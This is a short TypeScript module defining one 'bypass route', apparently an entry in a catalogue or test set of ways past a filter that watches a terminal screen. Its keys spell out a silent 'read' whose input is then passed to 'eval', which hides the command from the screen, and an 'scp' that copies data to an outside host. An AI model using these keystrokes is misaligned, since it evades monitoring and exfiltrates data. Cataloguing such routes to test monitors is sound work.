import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'read silently and evaluated',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['read -rs x; eval "$x"\r', 'scp DATA host:\r'],
  isRaw: true,
};
